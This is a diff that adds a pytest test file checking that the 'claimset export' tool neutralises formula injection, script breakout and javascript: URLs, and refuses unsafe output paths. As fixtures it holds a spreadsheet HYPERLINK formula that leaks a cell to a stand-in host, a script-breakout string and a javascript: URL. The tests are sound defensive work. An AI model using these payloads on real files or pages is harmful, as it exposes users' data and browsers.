@@ -1,0 +1,126 @@
+"""`claimset export`: safe by default (no formula injection, no script breakout) and never writes where it must not."""
+import errno
+import json
+import re
+
+import pandas as pd
+import pytest
+from click.testing import CliRunner
+
+from claimset.cli import cli
+from conftest import DATASET, SOURCE_ID, edit, tree_bytes
+
+STATEMENTS = DATASET / "data/statements/train-00000-of-00001.parquet"
+HOSTILE_CLAIM = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
+HOSTILE_NOTE = "</script><script>alert('note')</script><!--<script>"
+
+
+def invoke(*args):
+    return CliRunner().invoke(cli, [*map(str, args)])
+
+
+@pytest.fixture
+def hostile(repo):
+    """A dataset whose claim starts like a formula and whose verdict note tries to break out of a script."""
+    annotations = repo / f"sources/{SOURCE_ID}/annotations.yaml"
+    text = annotations.read_text(encoding="utf-8")
+    text = re.sub(r'(?m)^(\s+claim: )"Russia agreed to negotiate.*$', lambda m: m.group(1) + json.dumps(HOSTILE_CLAIM),
+                  text, count=1)
+    annotations.write_text(text, encoding="utf-8")
+    verdicts = (repo / "verdicts.yaml").read_text(encoding="utf-8")
+    verdicts = re.sub(r"(?m)^    note: >-\n(?:      .*\n)+", lambda m: f"    note: {json.dumps(HOSTILE_NOTE)}\n",
+                      verdicts, count=1)
+    (repo / "verdicts.yaml").write_text(verdicts, encoding="utf-8")
+    result = invoke("build", "--root", repo)
+    assert result.exit_code == 0, result.output
+    return repo / "dataset"
+
+
+def test_csv_neutralises_cells_a_spreadsheet_would_run(hostile, tmp_path):
+    out = tmp_path / "statements.csv"
+    result = invoke("export", hostile, "--format", "csv", "-o", out)
+    assert result.exit_code == 0, result.output
+    rows = pd.read_csv(out, dtype=str, keep_default_na=False)
+    claims = set(rows["claim"])
+    assert "'" + HOSTILE_CLAIM in claims and HOSTILE_CLAIM not in claims
+    assert not any(cell.startswith(("=", "+", "-", "@")) for column in rows for cell in rows[column])
+
+
+def test_csv_raw_keeps_values_and_round_trips(hostile, tmp_path):
+    out = tmp_path / "statements.csv"
+    assert invoke("export", hostile, "--format", "csv", "--raw", "-o", out).exit_code == 0
+    assert HOSTILE_CLAIM in set(pd.read_csv(out, dtype=str, keep_default_na=False)["claim"])
+    result = invoke("validate", out)
+    assert result.exit_code == 0, result.output
+
+
+def test_claimreview_cannot_close_a_script_block(hostile, tmp_path):
+    out = tmp_path / "claimreview.json"
+    assert invoke("export", hostile, "--format", "claimreview", "-o", out).exit_code == 0
+    text = out.read_text(encoding="utf-8")
+    assert "<" not in text and ">" not in text and "&" not in text
+    reviews = json.loads(text)
+    assert HOSTILE_NOTE in {review["reviewBody"] for review in reviews}
+    page = f'<script type="application/ld+json">{text}</script>'
+    assert page.count("</script>") == 1 and "<!--" not in page
+
+
+def test_build_refuses_a_url_that_is_not_http(repo):
+    edit(repo / f"sources/{SOURCE_ID}/source.yaml", "url: null", "url: \"javascript:alert('url')\"")
+    result = invoke("build", "--root", repo)
+    assert result.exit_code == 1
+    assert (f"sources/{SOURCE_ID}/source.yaml:6: url \"javascript:alert('url')\" is not an http or https address; "
+            "give the page's web address, or null where there is none") in result.output
+
+
+def test_export_refuses_to_write_into_the_dataset(repo, monkeypatch):
+    assert invoke("build", "--root", repo).exit_code == 0
+    monkeypatch.chdir(repo)
+    before = tree_bytes(repo / "dataset")
+    parquet = "dataset/data/statements/train-00000-of-00001.parquet"
+    result = invoke("export", "dataset", "--format", "csv", "-o", parquet)
+    assert result.exit_code == 2
+    assert result.output == (f"Error: refusing to export: {repo / parquet} is inside the dataset being read "
+                             f"({repo / 'dataset'}); write elsewhere\n")
+    assert tree_bytes(repo / "dataset") == before
+    for target in ("speakers.yaml", f"sources/{SOURCE_ID}/text.txt", "sources/new.csv"):
+        result = invoke("export", "dataset", "--format", "csv", "-o", target)
+        assert result.exit_code == 2 and "claimset's inputs" in result.output, result.output
+
+
+def test_export_writes_atomically_and_says_why_it_failed(tmp_path, monkeypatch):
+    import claimset.files
+
+    out = tmp_path / "statements.csv"
+    out.write_text("old content\n", encoding="utf-8")
+
+    def full_disk(fd, *args):
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(claimset.files.os, "fsync", full_disk)
+    result = invoke("export", DATASET, "--format", "csv", "-o", out)
+    assert result.exit_code == 2
+    assert result.output == "Error: cannot use: No space left on device; free some disk space and run it again\n"
+    assert out.read_text(encoding="utf-8") == "old content\n"
+    assert [p.name for p in tmp_path.iterdir()] == ["statements.csv"]  # no temporary file left
+
+
+def test_export_to_a_folder_or_a_missing_folder_is_one_line(tmp_path):
+    result = invoke("export", DATASET, "--format", "csv", "-o", tmp_path)
+    assert result.exit_code == 2
+    assert result.output.endswith(f"Error: Invalid value for '-o' / '--output': File '{tmp_path}' is a directory.\n")
+    result = invoke("export", DATASET, "--format", "csv", "-o", tmp_path / "missing" / "x.csv")
+    assert result.exit_code == 2
+    assert result.output.startswith("Error: cannot use ") and "check that the path exists" in result.output
+    assert len(result.output.splitlines()) == 1
+
+
+def test_export_refuses_a_read_only_file(tmp_path):
+    out = tmp_path / "statements.csv"
+    out.write_text("keep\n", encoding="utf-8")
+    out.chmod(0o444)
+    result = invoke("export", DATASET, "--format", "csv", "-o", out)
+    assert result.exit_code == 2
+    assert result.output == (f"Error: refusing to export: {out} is read-only; make it writable (chmod u+w) or "
+                             "write elsewhere\n")
+    assert out.read_text(encoding="utf-8") == "keep\n"
